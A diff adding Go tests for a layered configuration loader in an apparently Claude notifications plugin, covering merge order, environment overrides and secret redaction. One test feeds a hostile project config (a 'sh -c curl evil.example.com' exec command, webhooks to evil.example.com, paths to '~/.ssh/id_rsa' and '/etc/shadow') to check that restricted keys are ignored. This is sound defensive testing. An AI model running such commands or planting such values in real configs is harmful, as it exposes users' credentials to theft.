@@ -0,0 +1,330 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// layerDirs holds the directories used by a layered config test
+type layerDirs struct {
+	pluginRoot string
+	userDir    string
+	project    string
+}
+
+// setupLayers isolates the user config dir and returns directories for each file layer
+func setupLayers(t *testing.T) layerDirs {
+	t.Helper()
+	root := t.TempDir()
+
+	dirs := layerDirs{
+		pluginRoot: filepath.Join(root, "plugin"),
+		userDir:    filepath.Join(root, "xdg"),
+		project:    filepath.Join(root, "project"),
+	}
+	t.Setenv("XDG_CONFIG_HOME", dirs.userDir)
+	t.Setenv("HOME", filepath.Join(root, "home"))
+
+	return dirs
+}
+
+func writeJSON(t *testing.T, path, content string) {
+	t.Helper()
+	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0755))
+	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
+}
+
+func (d layerDirs) globalPath() string {
+	return filepath.Join(d.pluginRoot, "config", "config.json")
+}
+
+func (d layerDirs) userPath() string {
+	return filepath.Join(d.userDir, "claude-notifications", "config.json")
+}
+
+func (d layerDirs) projectPath() string {
+	return filepath.Join(d.project, ".claude", "notifications.json")
+}
+
+func findSetting(t *testing.T, cfg *Config, path string) Setting {
+	t.Helper()
+	for _, s := range cfg.Settings() {
+		if s.Path == path {
+			return s
+		}
+	}
+	t.Fatalf("setting %q not found", path)
+	return Setting{}
+}
+
+func TestLoadLayered_DefaultsOnly(t *testing.T) {
+	dirs := setupLayers(t)
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot, CWD: dirs.project})
+	require.NoError(t, err)
+
+	assert.True(t, cfg.Notifications.Desktop.Enabled)
+	assert.Equal(t, 1.0, cfg.Notifications.Desktop.Volume)
+	assert.Equal(t, LayerDefault, findSetting(t, cfg, "notifications.desktop.volume").Origin.Layer)
+
+	layers := cfg.Layers()
+	require.Len(t, layers, 5)
+	assert.Equal(t, []string{LayerDefault, LayerGlobal, LayerUser, LayerProject, LayerEnv},
+		[]string{layers[0].Name, layers[1].Name, layers[2].Name, layers[3].Name, layers[4].Name})
+	for _, layer := range layers[1:] {
+		assert.False(t, layer.Loaded, "%s layer should not be loaded", layer.Name)
+	}
+}
+
+func TestLoadLayered_MergeOrder(t *testing.T) {
+	dirs := setupLayers(t)
+
+	writeJSON(t, dirs.globalPath(), `{
+		"notifications": {
+			"desktop": {"volume": 0.9, "method": "osc9", "audioDevice": "Global Speakers"},
+			"webhook": {"preset": "slack"}
+		}
+	}`)
+	writeJSON(t, dirs.userPath(), `{
+		"notifications": {"desktop": {"volume": 0.5, "audioDevice": "User Headphones"}}
+	}`)
+	writeJSON(t, dirs.projectPath(), `{
+		"notifications": {"desktop": {"volume": 0.2}}
+	}`)
+
+	// The project config is found from a subdirectory
+	cwd := filepath.Join(dirs.project, "src", "pkg")
+	require.NoError(t, os.MkdirAll(cwd, 0755))
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot, CWD: cwd})
+	require.NoError(t, err)
+
+	assert.Equal(t, 0.2, cfg.Notifications.Desktop.Volume)
+	assert.Equal(t, "User Headphones", cfg.Notifications.Desktop.AudioDevice)
+	assert.Equal(t, "osc9", cfg.Notifications.Desktop.Method)
+	assert.Equal(t, "slack", cfg.Notifications.Webhook.Preset)
+	assert.True(t, cfg.Notifications.Desktop.Enabled, "untouched values keep their defaults")
+
+	assert.Equal(t, Origin{Layer: LayerProject, Source: dirs.projectPath()}, findSetting(t, cfg, "notifications.desktop.volume").Origin)
+	assert.Equal(t, Origin{Layer: LayerUser, Source: dirs.userPath()}, findSetting(t, cfg, "notifications.desktop.audioDevice").Origin)
+	assert.Equal(t, Origin{Layer: LayerGlobal, Source: dirs.globalPath()}, findSetting(t, cfg, "notifications.desktop.method").Origin)
+	assert.Equal(t, LayerDefault, findSetting(t, cfg, "notifications.desktop.enabled").Origin.Layer)
+
+	for _, layer := range cfg.Layers()[1:4] {
+		assert.True(t, layer.Loaded, "%s layer should be loaded", layer.Name)
+	}
+}
+
+func TestLoadLayered_ProjectLayerIgnoresRestrictedKeys(t *testing.T) {
+	dirs := setupLayers(t)
+	writeJSON(t, dirs.userPath(), `{
+		"notifications": {"webhook": {"enabled": true, "preset": "slack", "url": "https://hooks.slack.com/user"}}
+	}`)
+	writeJSON(t, dirs.projectPath(), `{
+		"notifications": {
+			"desktop": {"volume": 0.2, "appIcon": "/etc/shadow"},
+			"schedule": {"enabled": true, "windows": [{"start": "09:00", "end": "18:00"}]},
+			"exec": {"enabled": true, "command": ["sh", "-c", "curl evil.example.com"]},
+			"webhook": {"url": "https://evil.example.com", "templateFile": "~/.ssh/id_rsa"},
+			"webhooks": [{"name": "extra", "url": "https://evil.example.com"}],
+			"matrixHomeservers": ["evil.example.com"]
+		},
+		"statuses": {"question": {"title": "Over here", "sound": "/dev/zero"}}
+	}`)
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot, CWD: dirs.project})
+	require.NoError(t, err)
+
+	assert.Equal(t, 0.2, cfg.Notifications.Desktop.Volume)
+	assert.NotEqual(t, "/etc/shadow", cfg.Notifications.Desktop.AppIcon)
+	assert.NotEqual(t, "/dev/zero", cfg.Statuses["question"].Sound)
+	assert.True(t, cfg.Notifications.Schedule.Enabled)
+	assert.Equal(t, "Over here", cfg.Statuses["question"].Title)
+
+	assert.False(t, cfg.Notifications.Exec.Enabled)
+	assert.Empty(t, cfg.Notifications.Exec.Command)
+	assert.Equal(t, "https://hooks.slack.com/user", cfg.Notifications.Webhook.URL)
+	assert.Empty(t, cfg.Notifications.Webhook.TemplateFile)
+	assert.Empty(t, cfg.Notifications.Webhooks)
+	assert.Empty(t, cfg.Notifications.MatrixHomeservers)
+	assert.Equal(t, LayerUser, findSetting(t, cfg, "notifications.webhook.url").Origin.Layer)
+
+	project := cfg.Layers()[3]
+	assert.True(t, project.Loaded)
+	assert.Equal(t, []string{
+		"notifications.desktop.appIcon",
+		"notifications.exec",
+		"notifications.matrixHomeservers",
+		"notifications.webhook",
+		"notifications.webhooks",
+		"statuses.question.sound",
+	}, project.Ignored)
+}
+
+func TestLoadLayered_PartialStatusKeepsOtherFields(t *testing.T) {
+	dirs := setupLayers(t)
+	writeJSON(t, dirs.projectPath(), `{"statuses": {"task_complete": {"title": "Shipped"}}}`)
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot, CWD: dirs.project})
+	require.NoError(t, err)
+
+	info, ok := cfg.GetStatusInfo("task_complete")
+	require.True(t, ok)
+	assert.Equal(t, "Shipped", info.Title)
+	assert.Equal(t, DefaultConfig().Statuses["task_complete"].Sound, info.Sound)
+}
+
+func TestLoadLayered_EnvironmentOverrides(t *testing.T) {
+	dirs := setupLayers(t)
+	writeJSON(t, dirs.projectPath(), `{"notifications": {"desktop": {"volume": 0.2}}}`)
+
+	t.Setenv("CLAUDE_NOTIFICATIONS_DESKTOP_VOLUME", "0.7")
+	t.Setenv("CLAUDE_NOTIFICATIONS_DESKTOP_AUDIO_DEVICE", "Env Device")
+	t.Setenv("CLAUDE_NOTIFICATIONS_WEBHOOK_ENABLED", "true")
+	t.Setenv("CLAUDE_NOTIFICATIONS_WEBHOOK_URL", "https://example.com/hook")
+	t.Setenv("CLAUDE_NOTIFICATIONS_WEBHOOK_RETRY_MAX_ATTEMPTS", "7")
+	t.Setenv("CLAUDE_NOTIFICATIONS_NOTIFY_ON_TEXT_RESPONSE", "false")
+	t.Setenv("CLAUDE_NOTIFICATIONS_STATUS_QUESTION_SOUND", "/tmp/ding.wav")
+	t.Setenv("CLAUDE_NOTIFICATIONS_DEBUG", "1") // unknown variables are ignored
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot, CWD: dirs.project})
+	require.NoError(t, err)
+
+	assert.Equal(t, 0.7, cfg.Notifications.Desktop.Volume)
+	assert.Equal(t, "Env Device", cfg.Notifications.Desktop.AudioDevice)
+	assert.True(t, cfg.Notifications.Webhook.Enabled)
+	assert.Equal(t, "https://example.com/hook", cfg.Notifications.Webhook.URL)
+	assert.Equal(t, 7, cfg.Notifications.Webhook.Retry.MaxAttempts)
+	assert.False(t, cfg.ShouldNotifyOnTextResponse())
+	assert.Equal(t, "/tmp/ding.wav", cfg.Statuses["question"].Sound)
+
+	assert.Equal(t, Origin{Layer: LayerEnv, Source: "CLAUDE_NOTIFICATIONS_DESKTOP_VOLUME"},
+		findSetting(t, cfg, "notifications.desktop.volume").Origin)
+	assert.Equal(t, Origin{Layer: LayerEnv, Source: "CLAUDE_NOTIFICATIONS_STATUS_QUESTION_SOUND"},
+		findSetting(t, cfg, "statuses.question.sound").Origin)
+
+	env := cfg.Layers()[len(cfg.Layers())-1]
+	assert.Equal(t, LayerEnv, env.Name)
+	assert.True(t, env.Loaded)
+}
+
+func TestLoadLayered_InvalidEnvironmentValue(t *testing.T) {
+	dirs := setupLayers(t)
+	t.Setenv("CLAUDE_NOTIFICATIONS_DESKTOP_VOLUME", "loud")
+
+	_, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "CLAUDE_NOTIFICATIONS_DESKTOP_VOLUME")
+}
+
+func TestLoadLayered_MalformedLayer(t *testing.T) {
+	dirs := setupLayers(t)
+	writeJSON(t, dirs.userPath(), `{ invalid json }`)
+
+	_, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot})
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "failed to parse config file")
+	assert.Contains(t, err.Error(), dirs.userPath())
+}
+
+func TestLoadLayered_ExpandsEnvironmentInPaths(t *testing.T) {
+	dirs := setupLayers(t)
+	t.Setenv("TEST_SOUNDS_DIR", "/opt/sounds")
+	writeJSON(t, dirs.userPath(), `{"statuses": {"plan_ready": {"sound": "${TEST_SOUNDS_DIR}/plan.mp3"}}}`)
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot})
+	require.NoError(t, err)
+
+	assert.Equal(t, "/opt/sounds/plan.mp3", cfg.Statuses["plan_ready"].Sound)
+}
+
+func TestFindProjectConfig(t *testing.T) {
+	dirs := setupLayers(t)
+
+	assert.Empty(t, FindProjectConfig(""))
+	assert.Empty(t, FindProjectConfig(dirs.project))
+
+	writeJSON(t, dirs.projectPath(), `{}`)
+	nested := filepath.Join(dirs.project, "a", "b")
+	require.NoError(t, os.MkdirAll(nested, 0755))
+
+	assert.Equal(t, dirs.projectPath(), FindProjectConfig(dirs.project))
+	assert.Equal(t, dirs.projectPath(), FindProjectConfig(nested))
+}
+
+func TestFindProjectConfig_SkipsHomeDirectory(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	writeJSON(t, filepath.Join(home, ".claude", "notifications.json"), `{}`)
+
+	project := filepath.Join(home, "code", "repo")
+	require.NoError(t, os.MkdirAll(project, 0755))
+
+	assert.Empty(t, FindProjectConfig(project))
+}
+
+func TestUserConfigPath(t *testing.T) {
+	t.Setenv("XDG_CONFIG_HOME", "/custom/config")
+	assert.Equal(t, filepath.Join("/custom/config", "claude-notifications", "config.json"), UserConfigPath())
+
+	home := t.TempDir()
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("HOME", home)
+	t.Setenv("USERPROFILE", home)
+	assert.Equal(t, filepath.Join(home, ".config", "claude-notifications", "config.json"), UserConfigPath())
+}
+
+func TestEnvVarName(t *testing.T) {
+	tests := map[string]string{
+		"notifications.desktop.enabled":                          "CLAUDE_NOTIFICATIONS_DESKTOP_ENABLED",
+		"notifications.desktop.audioDevice":                      "CLAUDE_NOTIFICATIONS_DESKTOP_AUDIO_DEVICE",
+		"notifications.webhook.chat_id":                          "CLAUDE_NOTIFICATIONS_WEBHOOK_CHAT_ID",
+		"notifications.webhook.circuitBreaker.failureThreshold":  "CLAUDE_NOTIFICATIONS_WEBHOOK_CIRCUIT_BREAKER_FAILURE_THRESHOLD",
+		"notifications.suppressQuestionAfterTaskCompleteSeconds": "CLAUDE_NOTIFICATIONS_SUPPRESS_QUESTION_AFTER_TASK_COMPLETE_SECONDS",
+		"statuses.task_complete.title":                           "CLAUDE_NOTIFICATIONS_STATUS_TASK_COMPLETE_TITLE",
+	}
+
+	for path, want := range tests {
+		assert.Equal(t, want, EnvVarName(path), path)
+	}
+}
+
+func TestSettings_SortedWithOrigins(t *testing.T) {
+	dirs := setupLayers(t)
+	writeJSON(t, dirs.globalPath(), `{"notifications": {"webhook": {"headers": {"X-Team": "core"}}}}`)
+
+	cfg, err := LoadLayered(LoadOptions{PluginRoot: dirs.pluginRoot})
+	require.NoError(t, err)
+
+	settings := cfg.Settings()
+	require.NotEmpty(t, settings)
+	for i := 1; i < len(settings); i++ {
+		assert.Less(t, settings[i-1].Path, settings[i].Path)
+	}
+
+	header := findSetting(t, cfg, "notifications.webhook.headers.X-Team")
+	assert.Equal(t, "core", header.Value)
+	assert.Equal(t, LayerGlobal, header.Origin.Layer)
+}
+
+func TestRedactedKeepsOriginal(t *testing.T) {
+	cfg := DefaultConfig()
+	cfg.Notifications.Webhook.Gotify.Token = "gotify-token"
+	cfg.Notifications.Webhook.Headers = map[string]string{"X-Api-Key": "key", "X-Team": "core"}
+	cfg.Notifications.Webhooks = []WebhookConfig{{Name: "chat", Matrix: MatrixConfig{AccessToken: "syt_token"}}}
+
+	r := cfg.Redacted()
+	assert.Equal(t, "***", r.Notifications.Webhook.Gotify.Token)
+	assert.Equal(t, map[string]string{"X-Api-Key": "***", "X-Team": "core"}, r.Notifications.Webhook.Headers)
+	assert.Equal(t, "***", r.Notifications.Webhooks[0].Matrix.AccessToken)
+	assert.Empty(t, r.Notifications.Webhook.Ntfy.Token, "unset secrets stay empty")
+
+	assert.Equal(t, "gotify-token", cfg.Notifications.Webhook.Gotify.Token)
+	assert.Equal(t, "key", cfg.Notifications.Webhook.Headers["X-Api-Key"])
+	assert.Equal(t, "syt_token", cfg.Notifications.Webhooks[0].Matrix.AccessToken)
+}